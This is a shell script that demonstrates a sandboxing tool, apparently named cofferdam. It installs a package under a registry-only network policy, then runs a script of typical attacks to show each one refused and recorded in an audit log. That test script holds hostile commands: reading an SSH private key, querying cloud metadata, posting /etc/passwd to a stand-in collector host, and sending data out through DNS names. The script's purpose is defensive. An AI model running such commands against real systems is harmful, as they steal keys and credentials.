#!/bin/sh
# The main job on real input: a package with dependencies is installed in a sandbox that can reach its registry and nothing else;
# then a program tries the classic bad things, and each refusal is shown with its record.
set -eu
bin=$(pwd)/bin
dir=$(mktemp -d)
server=
finish() {
	[ -z "$server" ] || { kill "$server" && wait "$server" || true; }
	rm -rf "$dir"
}
trap finish EXIT
COFFERDAM_STATE=$dir/state
export COFFERDAM_STATE
mkdir "$dir/project" && cd "$dir/project"

# A registry on private or reserved addresses, such as a company's mirror, must be named: policy refuses such addresses otherwise.
networks() {
	getent ahosts "$1" | awk '{print $1}' | sort -u | while read -r address; do
		case $address in
			*:*) prefix=128 ;;
			*) prefix=32 ;;
		esac
		printf ' --allow-network %s/%s' "$address" "$prefix"
	done
}
special() { # the flags for those addresses of a host that are special-purpose; public ones need none and are refused as flags
	for flag in $(networks "$1"); do
		[ "$flag" = --allow-network ] && continue
		if "$bin/cofferdam" run -q --workspace none --allow-network "$flag" -- true >/dev/null 2>&1; then printf ' --allow-network %s' "$flag"; fi
	done
}
host_of() { printf '%s\n' "$1" | sed -E 's#^[a-z]+://([^/@]*@)?([^/:,|]+).*#\2#'; }

echo "== 1. A real package, with one way out"
if command -v npm >/dev/null 2>&1; then
	flags=$(special "$(host_of "$(npm config get registry 2>/dev/null)")")
	set -- --allow @npm $flags -- npm install --no-fund --no-audit express
else
	cat >go.mod <<-'M'
		module example.com/demo
		go 1.21
	M
	flags=$(special "$(host_of "$(go env GOPROXY)")")
	set -- --allow @go $flags -- go get github.com/spf13/cobra@v1.8.0
fi
echo "\$ cofferdam run $*"
"$bin/cofferdam" run "$@"
echo "\$ cofferdam diff --stat last | tail -3"
"$bin/cofferdam" diff --stat last | tail -n 3
echo "\$ cofferdam apply last"
"$bin/cofferdam" apply last | tail -n 3
ls

echo
echo "== 2. The classic bad things"
mkdir -p "$dir/home/.ssh" && echo "a private key" >"$dir/home/.ssh/id_ed25519"
cat >bad.sh <<E2
echo "-- read a private key";           cat $dir/home/.ssh/id_ed25519 ~/.ssh/id_ed25519
echo "-- ask the cloud's metadata";     curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/
echo "-- post to an unlisted host";     curl -sS --max-time 5 -d @/etc/passwd https://collector.example.net/
echo "-- carry data out in a DNS name"; getent hosts c2VjcmV0.collector.example.net || echo "no such name"
echo "-- straight to an address";       curl -sS --max-time 5 https://192.0.43.8/
echo "-- write outside the folder";     echo x >../outside; ls -la $dir/outside
exit 0
E2
echo "\$ cofferdam run -- sh bad.sh"
"$bin/cofferdam" run -- sh bad.sh
[ ! -e "$dir/outside" ] && echo "outside the folder: nothing was written"
echo
echo "\$ cofferdam audit last --verdict deny"
"$bin/cofferdam" audit last --verdict deny
"$bin/cofferdam" audit verify

command -v curl >/dev/null 2>&1 || exit 0
echo
echo "== 3. For a team: the service, an agent, and what a person says to what it was refused"
COFFERDAM_STATE=$dir/service "$bin/cofferdam" serve --listen 127.0.0.1:0 >"$dir/serve.log" 2>&1 &
server=$!
link=
for _ in $(seq 100); do
	link=$(grep -o 'http.*/setup?token=.*' "$dir/serve.log" || true)
	[ -n "$link" ] && break
	sleep 0.1
done
COFFERDAM_SERVER=${link%/setup*}
export COFFERDAM_SERVER
post() { # PATH JSON: as the pages do it, with the cookies that the service gives
	curl -sS -f -b "$dir/cookies" -c "$dir/cookies" -H "Origin: $COFFERDAM_SERVER" -H 'Content-Type: application/json' -d "$2" "$COFFERDAM_SERVER/api/v1/$1"
}
password=$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
post auth/setup "{\"token\":\"${link##*token=}\",\"email\":\"ada@example.com\",\"password\":\"$password\",\"tenant\":\"acme\"}" >/dev/null
post auth/sign-in "{\"email\":\"ada@example.com\",\"password\":\"$password\"}" >/dev/null
scopes='["agents:read","agents:write","policies:read","sandboxes:read","sandboxes:write","review:read","review:decide","audit:read"]'
COFFERDAM_TOKEN=$(post tokens "{\"name\":\"demo\",\"scopes\":$scopes}" | sed 's/.*"secret":"\([^"]*\)".*/\1/')
export COFFERDAM_TOKEN
echo "\$ cofferdam agent create builder"
"$bin/cofferdam" agent create builder
echo "\$ cofferdam run --agent builder -- curl -sS https://collector.example.net/"
"$bin/cofferdam" run --agent builder -- curl -sS --max-time 5 https://collector.example.net/ || echo "(exit status $?)"
sleep 1
echo "\$ cofferdam review"
"$bin/cofferdam" review
